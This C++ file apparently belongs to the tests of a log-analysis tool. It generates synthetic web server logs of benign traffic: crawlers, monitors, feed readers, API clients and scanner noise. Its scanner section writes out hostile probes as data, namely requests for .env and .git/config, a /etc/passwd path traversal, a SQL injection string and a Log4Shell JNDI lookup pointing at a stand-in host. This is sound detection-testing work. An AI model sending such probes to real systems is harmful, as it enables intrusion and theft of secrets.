#include <fmt/format.h>

#include <utility>

#include "tests/detect/clean_traffic.h"

namespace logstat {
namespace {

constexpr std::string_view kGooglebot =
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) "
    "Chrome/141.0.7390.122 Safari/537.36";
constexpr std::string_view kBingbot =
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) "
    "Chrome/136.0.0.0 Safari/537.36";
constexpr std::string_view kAhrefs = "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)";

// Writes the lines of one program.
class Program {
 public:
  Program(std::string client, std::string_view agent, WovenLog& log)
      : client_(std::move(client)), agent_(agent), log_(log) {}
  void Send(int64_t second, std::string_view host, std::string_view request, int status, int64_t bytes,
            std::string_view user = "-") {
    log_.Add({second, std::string(host), client_, std::string(request), status, bytes, "-", agent_, std::string(user)});
  }
  void Get(int64_t second, std::string_view host, std::string_view path, int status, int64_t bytes) {
    Send(second, host, fmt::format("GET {} HTTP/1.1", path), status, bytes);
  }

 private:
  std::string client_;
  std::string agent_;
  WovenLog& log_;
};

void AddCrawler(Program crawler, int64_t pause, Dice& dice, const CleanSpan& span) {
  for (int64_t at = span.from + dice.Roll(pause); at < span.to; at += dice.Between(1, 2 * pause)) {
    const int64_t kind = dice.Roll(100);
    const std::string page = fmt::format("/products/{}/", dice.Roll(300));
    if (kind < 2) {
      crawler.Get(at, "www.example.org", "/robots.txt", 200, 312);
    } else if (kind < 6) {
      crawler.Get(at, "www.example.org", fmt::format("/old/{}.html", dice.Roll(400)), 404, 1530);
    } else if (kind < 12) {
      crawler.Get(at, "www.example.org", fmt::format("/shop/{}.php", dice.Roll(900)), 301, 169);
    } else if (kind < 30) {
      crawler.Get(at, "www.example.org", page, 304, 0);
    } else if (kind < 33) {
      crawler.Get(at, "example.org", page, 301, 169);
    } else {
      crawler.Get(at, "www.example.org", page, 200, BytesOf(page) + dice.Roll(200));
    }
  }
}

void AddMonitors(Dice& dice, const CleanSpan& span, WovenLog& log) {
  Program probe("198.19.1.10", "kube-probe/1.31", log);
  Program uptime("198.19.1.11", "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", log);
  Program checker("198.19.1.12", "LinkChecker/10.4 (+https://linkchecker.github.io/linkchecker/)", log);
  for (int64_t at = span.from; at < span.to; at += 10) probe.Get(at, "app.example.org", "/healthz", 200, 2);
  for (int64_t at = span.from + 7; at < span.to; at += 60) {
    uptime.Send(at, "www.example.org", "HEAD / HTTP/1.1", 200, 0);
    if (dice.OneIn(3)) {
      checker.Send(at, "www.example.org", fmt::format("HEAD /products/{}/ HTTP/1.1", dice.Roll(300)), 200, 0);
    }
  }
}

// Once a day somebody checks all old links, four a second: every answer is a redirect, none of them leads in a circle.
void AddLinkCheck(const CleanSpan& span, WovenLog& log) {
  Program checker("198.19.1.13", "LinkChecker/10.4 (+https://linkchecker.github.io/linkchecker/)", log);
  for (int64_t day = span.from / 86'400; day * 86'400 < span.to; ++day) {
    for (int64_t i = 0; i < 300; ++i) {
      checker.Send(day * 86'400 + 50'000 + i / 4, "www.example.org", fmt::format("HEAD /shop/{}.php HTTP/1.1", i), 301,
                   0);
    }
  }
}

void AddFeedReaders(Dice& dice, const CleanSpan& span, WovenLog& log) {
  for (int64_t reader = 0; reader < 25; ++reader) {
    Program program(fmt::format("198.19.2.{}", reader + 1),
                    reader % 3 == 0 ? "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers)"
                                    : "Tiny Tiny RSS/24.06 (https://tt-rss.org/)",
                    log);
    for (int64_t at = span.from + dice.Roll(1800); at < span.to; at += 1800 + dice.Roll(60)) {
      const bool is_new = dice.OneIn(12);
      program.Get(at, "www.example.org", "/feed.xml", is_new ? 200 : 304, is_new ? 18'230 : 0);
    }
  }
}

// Clients of an interface: they write, meet conflicts, let tokens expire, and ask what became of their jobs.
void AddInterface(Dice& dice, const CleanSpan& span, WovenLog& log) {
  for (int64_t user = 0; user < 12; ++user) {
    Program client(fmt::format("198.19.3.{}", user + 1), user % 2 == 0 ? "okhttp/4.12.0" : "python-requests/2.32.3",
                   log);
    for (int64_t at = span.from + dice.Roll(120); at < span.to; at += dice.Between(20, 160)) {
      const std::string item = fmt::format("/v1/items/{}", dice.Roll(2000));
      const int64_t kind = dice.Roll(100);
      const auto send = [&](int64_t later, std::string_view method, std::string_view path, int status, int64_t bytes) {
        client.Send(at + later, "api.example.org", fmt::format("{} {} HTTP/1.1", method, path), status, bytes);
      };
      if (kind < 45) {
        send(0, "GET", item, 200, 400 + dice.Roll(900));
      } else if (kind < 60) {
        send(0, "PUT", item, 200, 120);
        send(2, "GET", item, 200, 400 + dice.Roll(900));
      } else if (kind < 72) {
        send(0, "POST", "/v1/items", 201, 140);
      } else if (kind < 80) {
        send(0, "DELETE", item, 204, 0);
      } else if (kind < 85) {
        send(0, "GET", item, 404, 48);
      } else if (kind < 88) {
        send(0, "POST", "/v1/items", 422, 210);
      } else if (kind < 91) {  // a conflict, settled
        send(0, "PUT", item, 409, 90);
        send(3, "GET", item, 200, 600);
        send(5, "PUT", item, 200, 120);
      } else if (kind < 94) {  // an expired token
        send(0, "GET", item, 401, 60);
        send(1, "POST", "/v1/token", 200, 900);
        send(2, "GET", item, 200, 500);
      } else if (kind < 98) {  // work that takes time, asked for
        send(0, "POST", "/v1/jobs", 202, 70);
        send(6, "GET", fmt::format("/v1/jobs/{}", dice.Roll(9000)), 200, 160);
      } else {
        send(0, "PATCH", item, 200, 130);
      }
    }
  }
  // A backup that one machine writes, and reads back, where nobody else writes.
  Program backup("198.19.3.91", "rclone/v1.68.0", log);
  for (int64_t at = span.from + 500; at < span.to; at += 3600) {
    for (int64_t part = 0; part < 5; ++part) {
      const std::string path = fmt::format("/backup/{}-{}.tar", at, part);
      backup.Send(at + 9 * part, "dav.example.org", fmt::format("PUT {} HTTP/1.1", path), 201, 0, "backup");
      backup.Send(at + 9 * part + 4, "dav.example.org", fmt::format("HEAD {} HTTP/1.1", path), 200, 0, "backup");
    }
  }
  // A calendar that one person shares between devices, with a login.
  Program calendar("198.19.3.90", "iOS/18.6 (22G86) dataaccessd/1.0", log);
  for (int64_t at = span.from + 300; at < span.to; at += 900) {
    calendar.Send(at, "dav.example.org", "PROPFIND /calendar/ HTTP/1.1", 401, 120);
    calendar.Send(at + 1, "dav.example.org", "PROPFIND /calendar/ HTTP/1.1", 207, 2210, "person3");
  }
}

// The host on port 80 says 301 to everybody and nothing else, to scanners too.
void AddPortEighty(Dice& dice, const CleanSpan& span, WovenLog& log) {
  for (int64_t at = span.from; at < span.to; at += dice.Between(5, 50)) {
    Program caller(fmt::format("198.18.{}.{}", dice.Roll(200), dice.Between(1, 254)), dice.Pick(kBrowsers), log);
    caller.Get(at, "example.org", dice.Percent(70) ? "/" : fmt::format("/news/{}.html", dice.Roll(60)), 301, 169);
  }
}

// Nothing of this is there, or it gets the page that everything gets.
void AddScanners(Dice& dice, const CleanSpan& span, WovenLog& log) {
  constexpr std::array<std::string_view, 14> kPaths = {"/.env",
                                                       "/.git/config",
                                                       "/wp-login.php",
                                                       "/phpmyadmin/index.php",
                                                       "/backup.sql",
                                                       "/admin/",
                                                       "/cgi-bin/luci",
                                                       "/boaform/admin",
                                                       "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                                                       "/actuator/env",
                                                       "/server-status",
                                                       "/owa/",
                                                       "/config.json",
                                                       "/xmlrpc.php"};
  for (int64_t at = span.from + dice.Roll(1200); at < span.to; at += dice.Between(400, 2400)) {
    const std::string client = fmt::format("198.19.{}.{}", 100 + dice.Roll(100), dice.Between(1, 254));
    Program scanner(client, dice.Percent(30) ? "Mozilla/5.0 zgrab/0.x" : kBrowsers[0], log);
    switch (dice.Roll(8)) {
      case 0:
      case 1:
      case 2:
        for (size_t i = 0; i < kPaths.size(); ++i) {
          scanner.Get(at + static_cast<int64_t>(i) / 3, "www.example.org", kPaths[i], i % 5 == 0 ? 403 : 404, 1530);
        }
        break;
      case 3:  // an application of one page has an answer for all of them
        for (size_t i = 0; i < kPaths.size(); ++i) {
          scanner.Get(at + static_cast<int64_t>(i) / 3, "app.example.org", kPaths[i], 200, 3482);
        }
        break;
      case 4:  // a home page takes any query
        scanner.Get(at, "www.example.org", "/?file=../../../../etc/passwd", 200, BytesOf("/") + dice.Roll(200));
        scanner.Get(at + 1, "www.example.org", "/?id=1%27%20UNION%20SELECT%20NULL--", 200,
                    BytesOf("/") + dice.Roll(200));
        scanner.Get(at + 2, "www.example.org", "/?x=${jndi:ldap://192.0.2.1/a}", 200, BytesOf("/") + dice.Roll(200));
        break;
      case 5:
        scanner.Send(at, "www.example.org", R"(\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03)", 400, 157);
        scanner.Send(at + 1, "www.example.org", "CONNECT proxy.example.net:443 HTTP/1.1", 405, 157);
        break;
      case 6:
        scanner.Send(at, "www.example.org", "GET http://proxy.example.net/ip HTTP/1.1", 404, 1530);
        scanner.Send(at + 2, "www.example.org", "PROPFIND / HTTP/1.1", 405, 157);
        scanner.Send(at + 4, "www.example.org", "OPTIONS / HTTP/1.1", 405, 157);
        break;
      default:
        for (int64_t i = 0; i < 4; ++i) {
          scanner.Send(at + i * 9, "www.example.org", "POST /wp-login.php HTTP/1.1", 404, 1530);
        }
    }
  }
}

}  // namespace

void AddPrograms(Dice& dice, const CleanSpan& span, WovenLog& log) {
  AddCrawler(Program("198.19.0.1", kGooglebot, log), 9, dice, span);
  AddCrawler(Program("198.19.0.2", kBingbot, log), 15, dice, span);
  AddCrawler(Program("198.19.0.3", kAhrefs, log), 6, dice, span);
  AddMonitors(dice, span, log);
  AddLinkCheck(span, log);
  AddFeedReaders(dice, span, log);
  AddInterface(dice, span, log);
  AddPortEighty(dice, span, log);
  AddScanners(dice, span, log);
}

}  // namespace logstat
